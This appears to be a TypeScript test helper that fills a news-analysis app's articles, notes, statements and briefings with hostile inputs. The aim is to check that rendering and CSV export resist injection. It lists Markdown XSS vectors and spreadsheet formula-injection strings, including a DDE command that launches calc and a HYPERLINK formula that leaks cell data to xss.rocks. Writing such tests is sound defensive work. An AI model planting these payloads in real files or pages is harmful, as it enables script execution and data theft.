import type { Backend } from '../../electron/backend/app.js';
import type { Channel, ChannelInput, ChannelOutput } from '../../shared/contract.js';
import type { Payload } from './securityPayloads.js';

/** One channel call through the dispatcher; a refusal fails the test with its code and message. */
export async function call<C extends Channel>(backend: Backend, channel: C, input: ChannelInput<C>): Promise<ChannelOutput<C>> {
  const answer = await backend.dispatch(channel, input);
  if (!answer.ok) throw new Error(`${channel}: ${answer.error.code}: ${answer.error.message}`);
  return answer.value as ChannelOutput<C>;
}

/**
 * Markdown's own ways in, beside the HTML payloads: links and images to script, data and remote
 * addresses, an autolink, a reference-style link.
 */
export const MARKDOWN_VECTORS: Payload[] = [
  '[Click me](javascript:alert(1))',
  '[Click me](JaVaScRiPt:alert(1) "title")',
  '[Click me](vbscript:msgbox(1))',
  '[Open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![tracking pixel](http://xss.rocks/pixel.png)',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<http://xss.rocks/xss.js>',
  '[ref][evil]\n\n[evil]: javascript:alert(1)',
  '**bold <img src=x onerror=alert(1)>** and _<script>alert(1)</script>_',
].map((text, i) => ({ label: `markdown vector ${i + 1}`, text }));

/** Text a spreadsheet would run as a formula (or DDE command) when a CSV export is opened. */
export const SPREADSHEET_VECTORS: Payload[] = [
  '=HYPERLINK("http://xss.rocks/?leak="&A1,"Open the source")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
].map((text, i) => ({ label: `spreadsheet vector ${i + 1}`, text }));

/** One article per payload, with everything an analyst can attach to it. */
export interface HostileItem {
  payload: Payload;
  articleId: string;
  /** The highlight's quote as stored (the payload's paragraph, as the article text keeps it). */
  exact: string;
  annotationId: string;
  statementId: string;
  url: string;
}

export interface HostileWorkspace {
  items: HostileItem[];
  /** Top-level tags named after payloads: the comparison's topics. */
  topics: { id: string; name: string }[];
  briefingId: string;
}

const SIDES = ['pakistan', 'afghanistan'] as const;
/** Every n-th payload names a topic, so the comparison has a handful of hostile topic names. */
const TOPIC_EVERY = 20;
/** The first payloads' statements have a registered speaker (name and role); the rest a typed one. */
const ACTORS = 12;

/** A word only the i-th article's text holds, to find it by searching. */
export const caseWord = (i: number) => `hostilecase${i}`;

const clip = (text: string, max: number) => text.trim().slice(0, max).trim();

/** A web address with the payload in its path (white space taken out: addresses have none). */
export const payloadUrl = (i: number, payload: Payload) => `https://example.org/${i}/${payload.text.replace(/\s+/g, '')}`.slice(0, 2048);

/**
 * Puts each payload into an article's title, outlet, address and text, a highlight's note (on
 * the payload's paragraph), the article's note, a statement (speaker, role), a topic name and a
 * position summary, and cites every statement and every topic's comparison in one briefing note
 * whose own Markdown carries the payloads too.
 */
export async function seedHostileWorkspace(backend: Backend, payloads: readonly Payload[]): Promise<HostileWorkspace> {
  const topics: HostileWorkspace['topics'] = [];
  for (const [i, payload] of payloads.entries()) {
    if (i % TOPIC_EVERY !== 0) continue;
    const tag = await call(backend, 'tags.create', { name: clip(payload.text, 120), description: payload.text.slice(0, 1000) });
    topics.push({ id: tag.id, name: tag.name });
  }

  const items: HostileItem[] = [];
  for (const [i, payload] of payloads.entries()) {
    const url = payloadUrl(i, payload);
    const article = await call(backend, 'articles.create', {
      title: clip(payload.text, 500),
      body: `Report ${caseWord(i)} on the border talks in Kabul.\n\n${payload.text}\n\nThe delegations meet again next week.`,
      url,
      outlet: clip(payload.text, 200),
      author: clip(payload.text, 200),
      published_at: '2025-04-17',
    });
    // The payload's paragraph (or paragraphs): between the first and the last paragraph break.
    const start = article.body.indexOf('\n\n') + 2;
    const end = article.body.lastIndexOf('\n\n');
    const side = SIDES[i % 2]!;
    const annotation = await call(backend, 'annotations.create', {
      article_id: article.id,
      start,
      end,
      note: payload.text,
      tag_ids: [topics[i % topics.length]!.id],
    });
    await call(backend, 'notes.setArticle', { article_id: article.id, body: payload.text });
    const speaker =
      i < ACTORS
        ? {
            actor_id: (
              await call(backend, 'actors.create', {
                name: `${clip(payload.text, 180)} ${i}`,
                side_id: side,
                roles: [{ title: clip(payload.text, 200) }],
              })
            ).id,
          }
        : { speaker_text: clip(payload.text, 200), side_id: side };
    const statement = await call(backend, 'statements.create', {
      annotation_id: annotation.id,
      ...speaker,
      kind: 'direct',
      said_on: '2025-04-17',
    });
    items.push({ payload, articleId: article.id, exact: annotation.exact, annotationId: annotation.id, statementId: statement.id, url });
  }

  for (const [t, topic] of topics.entries()) {
    for (const side of SIDES) {
      await call(backend, 'compare.setSummary', { topic_id: topic.id, side_id: side, body: payloads[(t * 7 + side.length) % payloads.length]!.text });
    }
  }

  const briefing = await call(backend, 'briefings.create', {
    title: `Hostile sweep ${clip(payloads[0]!.text, 200)}`,
    author: clip(payloads[1]!.text, 200),
    caveat: clip(payloads[2]!.text, 200),
    note_date: '2025-04-18',
  });
  const body: string[] = [];
  for (const [i, item] of items.entries()) {
    const { token } = await call(backend, 'briefings.cite', { note_id: briefing.id, kind: 'quote', target: { type: 'statement', id: item.statementId } });
    body.push(`## Item ${i}`, '', item.payload.text, '', token, '');
  }
  for (const topic of topics) {
    const { token } = await call(backend, 'briefings.cite', { note_id: briefing.id, kind: 'compare', topic_id: topic.id });
    body.push(token, '');
  }
  await call(backend, 'briefings.update', { id: briefing.id, body: body.join('\n') });
  return { items, topics, briefingId: briefing.id };
}
